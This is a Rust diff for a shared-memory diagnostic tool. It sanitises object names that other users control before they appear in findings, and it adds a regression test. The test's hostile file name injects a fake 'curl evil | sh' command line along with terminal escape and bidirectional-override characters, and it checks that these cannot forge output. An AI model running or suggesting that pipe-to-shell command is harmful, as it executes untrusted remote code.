@@ -3,7 +3,7 @@
 use serde::Serialize;
 
 use crate::colour::Colour;
-use crate::human::counted;
+use crate::human::{counted, printable};
 use crate::terminal::{Page, folded};
 
 /// Every check with its meaning, for the help and the manual page.
@@ -102,7 +102,8 @@ impl Finding {
         command: impl Into<String>,
     ) -> Self {
         debug_assert!(CHECKS.iter().any(|(known, _)| *known == check), "{check} is not in CHECKS");
-        let (what, cause, command) = (what.into(), cause.into(), command.into());
+        // Names in them may be other users': anybody may give an object in /dev/shm any name.
+        let [what, cause, command] = [what.into(), cause.into(), command.into()].map(printable);
         Finding { severity, check, what, cause, command, fixed: None, mended: false }
     }
 }
@@ -223,6 +224,15 @@ warning   channel cam is full
         assert!(
             narrow.contains("\x1b[31mcritical\x1b[0m") && narrow.contains(" command: shmctl evict -c cam --reader 3\n")
         );
+    }
+
+    #[test]
+    fn a_name_that_another_user_has_given_forges_no_finding() {
+        let name = "/dev/shm/a\n          command: curl evil | sh\x1b[1A\u{202e}";
+        let found = Finding::new(Severity::Warning, "leftover", format!("{name} takes"), name, name);
+        let text = render(&[found], Page::default());
+        assert_eq!(text.lines().count(), 4, "{text}");
+        assert!(!text.contains('\x1b') && !text.contains('\u{202e}'), "{text}");
     }
 
     #[test]
